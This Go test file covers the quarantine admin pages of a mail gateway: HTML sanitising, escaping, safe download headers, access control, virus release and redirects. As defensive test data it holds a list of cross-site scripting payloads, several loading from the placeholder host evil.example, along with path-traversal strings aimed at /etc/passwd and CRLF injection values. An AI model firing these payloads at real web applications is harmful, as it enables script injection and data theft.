package pages_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/html"

	"gatepost/internal/accounts"
	"gatepost/internal/admin/pages"
	"gatepost/internal/mail"
	"gatepost/internal/quarantine"
	"gatepost/internal/smtp"
	"gatepost/internal/store"
)

// outbox takes what is released.
type outbox struct {
	mu   sync.Mutex
	sent []string
}

// Release implements quarantine.Releaser.
func (o *outbox) Release(_ context.Context, env *mail.Envelope, _ mail.Body) (mail.ID, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	for i := range env.Recipients {
		o.sent = append(o.sent, env.Recipients[i].Address.String())
	}
	return mail.NewID(), nil
}

func (o *outbox) all() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return strings.Join(o.sent, " ")
}

// text is a body in memory.
type text struct{ *strings.Reader }

func (b text) Size() int64 { return b.Reader.Size() }

// held is the pages over a real quarantine.
type held struct {
	*web
	store *store.Store
	out   *outbox
}

func openHeld(t testing.TB) *held {
	h := &held{out: &outbox{}}
	h.web = openWith(t, func(s *store.Store, c *pages.Config) {
		q, err := quarantine.New(quarantine.Config{Store: s, Releaser: h.out})
		must(t, err)
		h.store, c.Quarantine = s, q
	})
	return h
}

// message is something to hold.
type message struct {
	from, subject, body string
	threat              mail.Threat
	to                  []string
}

func (h *held) hold(m message) mail.ID {
	h.t.Helper()
	row, body := m.record(h.t)
	must(h.t, h.store.PutQuarantined(context.Background(), row, body))
	return row.ID
}

func (m message) record(t testing.TB) (*store.QuarantinedMessage, mail.Body) {
	t.Helper()
	if m.threat == "" {
		m.threat = mail.ThreatSpam
	}
	if m.body == "" {
		m.body = "From: a@sender.example\r\n\r\nHello.\r\n"
	}
	if m.from == "" {
		m.from = "a@sender.example"
	}
	cause := store.QuarantineCause{Threat: m.threat, Reason: "because"}
	env := &mail.Envelope{ID: mail.NewID(), Received: time.Now(), Subject: m.subject, Size: int64(len(m.body))}
	env.Findings = []mail.Finding{{Module: "filters", Symbol: "KEPT", Result: mail.Match, Reason: "because of " + m.subject}}
	row := &store.QuarantinedMessage{ID: env.ID, Received: env.Received, Sender: m.from, Subject: m.subject, QuarantineCause: cause, Envelope: env}
	for _, to := range m.to {
		a, err := smtp.ParseAddress(to)
		must(t, err)
		env.Recipients = append(env.Recipients, mail.Recipient{Address: a, Original: a})
		row.Entries = append(row.Entries, store.QuarantineEntry{Recipient: a, Domain: a.Domain, QuarantineCause: cause})
	}
	return row, text{strings.NewReader(m.body)}
}

// vectors are HTML that wants to run, load, send or hide something.
var vectors = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script/x>alert(1)</script>`, `<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img src="https://evil.example/p.gif" width=1 height=1>`, `<img srcset="//evil.example/a 1x">`, "<img\tsrc=x\nonerror\n=alert(1)//", `<image src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`, `<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>`,
	`<math><mi//xlink:href="data:x,<script>alert(4)</script>">`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="&#106;&#97;vascript:alert(1)">x</a>`, "<a href=\"java\tscript:alert(1)\">x</a>", `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="https://evil.example" ping="https://evil.example/p" target=_top>x</a>`,
	`<body onload=alert(1) background="https://evil.example/b.gif">`, `<iframe src="https://evil.example/">`, `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<frameset><frame src=//evil.example></frameset>`,
	`<form action="https://evil.example"><input name=p type=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>`, `<isindex type=image src=1 onerror=alert(1)>`, `<select autofocus onfocus=alert(1)><option>x</select>`, `<textarea autofocus onfocus=alert(1)>x</textarea>`,
	`<style>@import "https://evil.example/x.css"; body{background:url(//evil.example/y)}</style>`, `<div style="background:url(https://evil.example/z)">x</div>`, `<p style="width:expression(alert(1))">x</p>`, `<div style="position:fixed;inset:0">cover</div>`, `<link rel=stylesheet href="//evil.example/a.css">`, `<link rel=prefetch href=//evil.example>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">`, `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<base href="https://evil.example/">`, `<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`, `<applet code=X archive=//evil.example></applet>`,
	`<video poster=//evil.example/p><source src=//evil.example/v onerror=alert(1)></video>`, `<audio src=//evil.example/a autoplay onplay=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`, `<table background="//evil.example/t.gif"><tr><td background=//evil.example/u>x</table>`, `<td colspan="1&quot; onmouseover=alert(1)">x</td>`,
	`<!--[if IE]><script>alert(1)</script><![endif]-->`, `<!--><img src=x onerror=alert(1)>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<title><img src="</title><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`, `<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>`, `<plaintext><script>alert(1)</script>`, `</body></html><script>alert(1)</script>`, "\xef\xbb\xbf<script>alert(1)</script>", `<p id=x class=y name=z data-hx-get="/users" hx-post="/users" hx-trigger=load>x</p>`, "<p\x00onclick=alert(1)>x</p>", `<div><div><span dir=rtl onpointerrawupdate=alert(1)>x`, `<keygen autofocus onfocus=alert(1)>`, `<portal src=//evil.example>`, `<dialog open onclose=alert(1)>x</dialog>`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
}

// harmless are the elements that the preview may have.
var harmless = strings.Fields(`html head meta title style body p br hr div span center b strong i em u s strike del ins small big sub sup h1 h2 h3 h4 h5 h6
	ul ol li dl dt dd blockquote q cite abbr address pre code kbd samp tt table caption thead tbody tfoot tr td th`)

// WEB-04.
func TestHTMLIsShownWithoutAnythingThatRunsLoadsOrSends(t *testing.T) {
	h := openHeld(t)
	c := h.as(accounts.Administrator)
	if len(vectors) < 40 {
		t.Fatalf("%d vectors", len(vectors))
	}
	for i, v := range append(slices.Clone(vectors), strings.Join(vectors, "\n")) {
		for _, charset := range []string{"utf-8", "utf-7"} {
			id := h.hold(message{to: []string{"u@a.example"}, body: "From: a@b.example\r\nContent-Type: text/html; charset=" + charset + "\r\n\r\n<p>before</p>" + v + "\r\n"})
			r := c.get("/quarantine/" + id.String() + "/html")
			if r.Code != http.StatusOK {
				t.Fatalf("%q: %d", v, r.Code)
			}
			body := r.Body.String()
			if bad := harm(t, body); bad != "" {
				t.Errorf("vector %d, %s: %.300q is shown with %s:\n%s", i, charset, v, bad, body[strings.Index(body, "<body>"):])
			}
			if !strings.Contains(body, "before") {
				t.Errorf("%q: the text is gone", v)
			}
			policy := r.Header().Get("Content-Security-Policy")
			if !strings.HasPrefix(policy, "sandbox; default-src 'none'; style-src 'sha256-") || strings.Contains(policy, "allow-") || !strings.Contains(policy, "frame-ancestors 'self'") ||
				r.Header().Get("X-Frame-Options") != "SAMEORIGIN" || r.Header().Get("Referrer-Policy") != "no-referrer" {
				t.Fatalf("the frame has %v", r.Header())
			}
		}
	}
}

// harm is the first thing in a preview that is not allowed, read as browsers read it.
func harm(t *testing.T, body string) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(body))
	must(t, err)
	styles, bad := 0, ""
	for n := range doc.Descendants() {
		switch {
		case n.Type == html.CommentNode:
			bad = "a comment"
		case n.Type != html.ElementNode:
			continue
		case n.Namespace != "" || !slices.Contains(harmless, n.Data):
			bad = "<" + n.Data + ">"
		case n.Data == "style":
			styles++
		}
		inHead := n.Data == "meta" || n.Data == "html"
		for _, a := range n.Attr {
			if !inHead && a.Key != "colspan" && a.Key != "rowspan" || a.Key == "http-equiv" {
				bad = a.Key + "="
			}
		}
	}
	if styles != 1 {
		bad = fmt.Sprintf("%d styles", styles)
	}
	return bad
}

func TestTextsOfMailAreTextInEveryPage(t *testing.T) {
	h := openHeld(t)
	evil := `"><script>alert(1)</script><img src=x onerror=alert(2)>`
	id := h.hold(message{from: `"><script>"@evil.example`, subject: evil, to: []string{"u@a.example"}, body: "From: " + evil + "\r\nX-" + "Odd: " + evil +
		"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/x; name=\"<script>alert(1)</script>\"\r\n\r\nx\r\n--b\r\nContent-Type: text/plain\r\n\r\n" + evil + " http://x.example/<script>\r\n--b--\r\n"})
	for _, role := range accounts.Roles() {
		c := h.as(role)
		for _, path := range []string{"/quarantine", "/quarantine?text=script", "/quarantine?" + url.Values{"text": {evil}, "sender": {evil}}.Encode(), "/quarantine/" + id.String(), "/quarantine/" + id.String() + "/download"} {
			body := c.get(path).Body.String()
			if strings.Contains(body, "<script>") || strings.Contains(body, "<img src=x") {
				t.Errorf("%s: %s has markup of a message", role, path)
			}
		}
	}
}

// WEB-05.
func TestTheOriginalIsDownloadedAsAFileAndNothingElse(t *testing.T) {
	h := openHeld(t)
	body := "Subject: a\"\r\nSet-Cookie: x=1\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n.\r\nlast"
	id := h.hold(message{subject: "a\"\r\nSet-Cookie: x=1", to: []string{"u@a.example"}, body: body})
	c := h.as(accounts.EndUser)
	path := "/quarantine/" + id.String() + "/download"
	if r := c.get(path); r.Code != http.StatusOK || !strings.Contains(r.Body.String(), "may be dangerous") || strings.Contains(r.Body.String(), "last") {
		t.Errorf("the warning: %d %s", r.Code, r.Body)
	}
	r := c.post(path, nil)
	if r.Code != http.StatusOK || r.Body.String() != body {
		t.Errorf("%d %q", r.Code, r.Body)
	}
	for name, want := range map[string]string{
		"Content-Disposition": `attachment; filename="` + id.String() + `.eml"`, "Content-Type": "message/rfc822", "X-Content-Type-Options": "nosniff",
		"Content-Security-Policy": "sandbox; default-src 'none'; frame-ancestors 'none'", "X-Frame-Options": "DENY", "Set-Cookie": "", "Cache-Control": "no-store",
	} {
		if got := r.Header().Get(name); got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	c.csrf = ""
	if r := c.post(path, nil); r.Code != http.StatusForbidden {
		t.Errorf("without a token: %d", r.Code)
	}
	if r := h.as(accounts.Viewer).post(path, nil); r.Code != http.StatusForbidden {
		t.Errorf("a viewer: %d", r.Code)
	}
}

// WEB-06.
func TestOddIDsOfMessagesAreNotFound(t *testing.T) {
	c := openHeld(t).as(accounts.Administrator)
	for _, name := range []string{"..%2f..%2f..%2fetc%2fpasswd", "%2e%2e%2f", "..%5c", "%00", "%2Fetc%2Fpasswd", strings.Repeat("x", 10_000), mail.NewID().String(), "0", "-1", "a:1", "%0d%0aX:y"} {
		for _, end := range []string{"", "/html", "/download"} {
			if r := c.get("/quarantine/" + name + end); r.Code != http.StatusNotFound && r.Code != http.StatusMovedPermanently && r.Code != http.StatusTemporaryRedirect {
				t.Errorf("%.40s%s: %d", name, end, r.Code)
			}
		}
		id, err := url.PathUnescape(name)
		must(t, err)
		if r := c.post("/quarantine/change", url.Values{"do": {"release"}, "id": {id}}); r.Code != http.StatusUnprocessableEntity {
			t.Errorf("release of %.40s: %d", name, r.Code)
		}
	}
}

// What concerns others is not there: neither message, nor address, nor operation.
func TestPeopleSeeAndChangeMailOfTheirOwnOnly(t *testing.T) {
	h := openHeld(t)
	both := h.hold(message{subject: "for both", to: []string{"u@a.example", "secret@b.example"}})
	others := h.hold(message{subject: "for others", to: []string{"other@b.example"}})
	neighbour := h.hold(message{subject: "for a neighbour", to: []string{"v@a.example"}})
	for role, sees := range map[accounts.Role]string{accounts.EndUser: "both", accounts.DomainAdministrator: "both neighbour"} {
		c := h.as(role)
		list := c.get("/quarantine").Body.String()
		for name, id := range map[string]mail.ID{"both": both, "others": others, "neighbour": neighbour} {
			want := strings.Contains(sees, name)
			if strings.Contains(list, id.String()) != want {
				t.Errorf("%s: the list has %s: %v", role, name, !want)
			}
			for _, path := range []string{"", "/html", "/download"} {
				if r := c.get("/quarantine/" + id.String() + path); (r.Code == http.StatusOK) != want {
					t.Errorf("%s: %s%s: %d", role, name, path, r.Code)
				}
			}
		}
		if text := list + c.get("/quarantine/"+both.String()).Body.String(); strings.Contains(text, "b.example") {
			t.Errorf("%s sees who else got it", role)
		}
		for _, query := range []string{"?domain=b.example", "?recipient=secret@b.example", "?text=secret", "?recipient=@b.example"} {
			if text := c.get("/quarantine" + query).Body.String(); strings.Contains(text, both.String()) && query != "?text=secret" || strings.Contains(text, others.String()) {
				t.Errorf("%s finds mail of others by %s", role, query)
			}
		}
		for _, do := range []string{"release", "delete", "ask", "release-again"} {
			c.post("/quarantine/change", url.Values{"do": {do}, "id": {others.String()}})
			c.post("/quarantine/change", url.Values{"do": {do}, "id": {both.String()}, "recipient": {"secret@b.example"}})
		}
		c.post("/quarantine/train", url.Values{"do": {"spam"}, "id": {both.String()}})
	}
	if sent := h.out.all(); sent != "" {
		t.Fatalf("released to %s", sent)
	}
	if r := h.as(accounts.EndUser).post("/quarantine/change", url.Values{"do": {"release"}, "id": {both.String()}, "back": {"/quarantine"}}); r.Code != http.StatusSeeOther {
		t.Fatalf("release: %d", r.Code)
	}
	if sent := h.out.all(); sent != "u@a.example" {
		t.Errorf("released to %s", sent)
	}
	page := h.as(accounts.Administrator).get("/quarantine/" + both.String()).Body.String()
	if !strings.Contains(page, `value="secret@b.example" checked`) || !strings.Contains(page, "by the-end-user") {
		t.Errorf("for the other it is not held any more:\n%s", page)
	}
}

// WEB-16.
func TestAVirusIsAskedForAndReleasedByAdministrators(t *testing.T) {
	h := openHeld(t)
	id := h.hold(message{subject: "your bill", threat: mail.ThreatVirus, to: []string{"u@a.example"}})
	user := h.as(accounts.EndUser)
	if page := user.get("/quarantine/" + id.String()).Body.String(); strings.Contains(page, `value="release"`) || !strings.Contains(page, `value="ask"`) {
		t.Error("the page offers to release a virus")
	}
	for _, do := range []string{"release", "release-again", "release-train"} {
		for _, path := range []string{"/quarantine/change", "/quarantine/train"} {
			if r := user.post(path, url.Values{"do": {do}, "id": {id.String()}}); r.Code < 400 {
				t.Errorf("%s by %s: %d", do, path, r.Code)
			}
		}
	}
	if sent := h.out.all(); sent != "" {
		t.Fatalf("released to %s", sent)
	}
	if r := user.post("/quarantine/change", url.Values{"do": {"ask"}, "id": {id.String()}}); r.Code != http.StatusSeeOther {
		t.Fatalf("ask: %d %s", r.Code, r.Body)
	}
	boss := h.as(accounts.Administrator)
	if page := boss.get("/quarantine?state=asked").Body.String(); !strings.Contains(page, id.String()) || !strings.Contains(page, "asked for by the-end-user") {
		t.Error("nobody sees that it is asked for")
	}
	if r := boss.post("/quarantine/change", url.Values{"do": {"release"}, "id": {id.String()}}); r.Code != http.StatusSeeOther || h.out.all() != "u@a.example" {
		t.Errorf("the administrator releases: %d %s", r.Code, h.out.all())
	}
	if page := boss.get("/quarantine?state=asked").Body.String(); strings.Contains(page, id.String()) {
		t.Error("it is still asked for")
	}
	if r := boss.post("/quarantine/change", url.Values{"do": {"release"}, "id": {id.String()}}); r.Code != http.StatusUnprocessableEntity || h.out.all() != "u@a.example" {
		t.Errorf("a second release: %d %s", r.Code, h.out.all())
	}
}

func TestManyAreChangedAtOnceAndWhatFailsIsTold(t *testing.T) {
	h := openHeld(t)
	c := h.as(accounts.Operator)
	var ids []string
	for range 3 {
		ids = append(ids, h.hold(message{to: []string{"u@a.example"}}).String())
	}
	r := c.post("/quarantine/change", url.Values{"do": {"release"}, "id": {ids[0], mail.NewID().String(), ids[1]}, "back": {"/quarantine?threat=spam"}})
	if body := r.Body.String(); r.Code != http.StatusUnprocessableEntity || !strings.Contains(body, "2 of 3 released.") || !strings.Contains(body, "No such message") {
		t.Errorf("%d %s", r.Code, r.Body)
	}
	if r := c.post("/quarantine/change", url.Values{"do": {"delete"}, "id": ids}); r.Code != http.StatusSeeOther {
		t.Errorf("delete: %d %s", r.Code, r.Body)
	}
	if body := c.get("/quarantine?state=deleted").Body.String(); strings.Contains(body, ids[0]) {
		t.Error("what an administrator deletes is still there")
	}
	for what, form := range map[string]url.Values{"nothing chosen": {"do": {"release"}}, "nothing to do": {"id": ids}, "training where it is not": {"do": {"spam"}, "id": ids}} {
		if r := c.post("/quarantine/change", form); r.Code != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", what, r.Code)
		}
	}
	list, _, err := h.accounts.Audit(t.Context(), store.AuditQuery{Limit: 10})
	must(t, err)
	if !slices.ContainsFunc(list, func(e store.AuditEntry) bool {
		return e.Action == "change held mail" && strings.Contains(e.Detail, "delete "+ids[0])
	}) {
		t.Errorf("the audit log has %+v", list)
	}
}

func TestFormsOfMailLeadBackToTheirPagesOnly(t *testing.T) {
	h := openHeld(t)
	c := h.as(accounts.Administrator)
	for back, want := range map[string]string{
		"/quarantine?text=x&said=y": "/quarantine?text=x&said=mail-released", "//evil.example/quarantine": "/quarantine?said=mail-released",
		"https://evil.example/": "/quarantine?said=mail-released", "javascript:alert(1)": "/quarantine?said=mail-released", "/users": "/quarantine?said=mail-released",
		"/quarantine/x": "/quarantine?said=mail-released", "": "/quarantine?said=mail-released", "/quarantine?cursor=%0d%0ax": "/quarantine?said=mail-released",
	} {
		id := h.hold(message{to: []string{"u@a.example"}})
		r := c.post("/quarantine/change", url.Values{"do": {"release"}, "id": {id.String()}, "back": {back}})
		if got := r.Header().Get("Location"); got != want {
			t.Errorf("%q leads to %q", back, got)
		}
	}
}

func TestPagesOfTheQuarantineFollowOnEachOther(t *testing.T) {
	h := openHeld(t)
	c := h.as(accounts.Administrator)
	for i := range 120 {
		h.hold(message{subject: fmt.Sprintf("number %d.", i), to: []string{"u@a.example"}})
	}
	path, seen := "/quarantine?threat=spam", 0
	for n := 0; path != ""; n++ {
		if n > 3 {
			t.Fatal("it has no end")
		}
		body := c.get(path).Body.String()
		seen += strings.Count(body, `name="id"`)
		_, rest, more := strings.Cut(body, `rel="next" href="`)
		path = ""
		if more {
			next, _, _ := strings.Cut(rest, `"`)
			path = html.UnescapeString(next)
			if !strings.Contains(path, "threat=spam") {
				t.Errorf("the next page is %s", path)
			}
		}
	}
	if seen != 120 {
		t.Errorf("the pages have %d messages", seen)
	}
	for _, path := range []string{"/quarantine?cursor=x", "/quarantine?domain=..%00"} {
		if r := c.get(path); r.Code != http.StatusUnprocessableEntity {
			t.Errorf("%s: %d", path, r.Code)
		}
	}
}
